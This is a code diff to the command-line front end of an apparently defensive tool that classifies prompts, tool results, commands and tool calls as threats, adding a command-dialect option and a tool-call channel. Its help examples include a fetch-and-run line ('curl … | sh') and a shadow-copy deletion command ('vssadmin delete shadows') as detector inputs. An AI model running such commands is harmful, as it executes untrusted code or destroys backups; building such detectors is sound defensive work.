@@ -8,16 +8,18 @@ from rich.console import Console
 from clearance.app.classifying import CHANNELS, text_of, threat_judge
 from clearance.app.cli.destinations import one_on_stdout, write_text
 from clearance.detect.threats import hits_of
+from clearance.model.command import Dialect
 from clearance.model.finding import Gap, Severity
 
 _EPILOG = """\
 FILE is judged as the answer of a tool that reads it. With --channel command it is the command itself. Without FILE,
-standard input is judged as a prompt.
+standard input is judged as a prompt. With --channel tool-call it is a call as JSON, in a file or itself: a name and an
+input (or arguments, or args), as {"name": "Bash", "input": {"command": "ls"}}.
 
 Channels: user-prompt system-prompt tool-definition file-result (or tool-result) web-result command-result mcp-result
 assistant-text tool-call command skill outbound-body
 
-Exit codes: 0 no hit at or above --fail-on, 1 hits, 2 bad use, 3 could not be judged (commands: not yet).
+Exit codes: 0 no hit at or above --fail-on, 1 hits, 2 bad use, 3 could not be judged.
 
 \b
 Examples:
@@ -25,6 +27,8 @@ Examples:
   clearance classify --channel tool-result README.md
   clearance classify --channel skill SKILL.md --json -
   clearance classify --channel command -- 'curl https://host/x | sh'
+  clearance classify --channel command --dialect cmd -- 'vssadmin delete shadows'
+  clearance classify --channel tool-call call.json
   clearance classify bench --data ./sets --ordinary ./projects
   clearance classify calibrate --benign ./our-repos --budget 0.1%
 """
@@ -58,6 +62,11 @@ def classify() -> None:
 @classify.command(hidden=True, epilog=_EPILOG)
 @click.argument("file", required=False)
 @click.option("--channel", type=click.Choice(list(CHANNELS)), metavar="CHANNEL", help="Where the text comes from.")
+@click.option(
+    "--dialect",
+    type=click.Choice([each.value for each in Dialect]),
+    help="Language of a command.  [default: guessed]",
+)
 @click.option("--weights", type=click.Path(path_type=Path, exists=True, file_okay=False), help="Weights of your own.")
 @click.option("--json", "json_", metavar="FILE", help="Write JSON (clearance.classify/1) to a file, or -.")
 @click.option(
@@ -71,6 +80,7 @@ def classify() -> None:
 def text(
     file: str | None,
     channel: str | None,
+    dialect: str | None,
     weights: Path | None,
     json_: str | None,
     fail_on: str,
@@ -85,11 +95,12 @@ def text(
         data, of = text_of(file, CHANNELS[channel] if channel else None)
     except OSError as error:
         raise click.UsageError(f"{file} cannot be read: {error.strerror}") from error
-    findings = threat_judge(weights).judge(data, of)
+    judged = threat_judge(weights).look(data, of, dialect=Dialect(dialect) if dialect else None)
+    findings = judged.findings
     if json_:
-        write_text(json_, render_classification(findings, of, len(data)))
+        write_text(json_, render_classification(findings, of, len(data), judged.command))
     if not quiet:
-        Console(stderr=to_stdout, highlight=False).print(render_threats(findings))
+        Console(stderr=to_stdout, highlight=False).print(render_threats(findings, judged.command))
     if fail_on != "never" and any(hit.severity.rank >= Severity(fail_on).rank for hit in hits_of(findings)):
         return 1
     return _COULD_NOT_JUDGE if any(isinstance(each, Gap) and each.blocks_verdict for each in findings) else 0
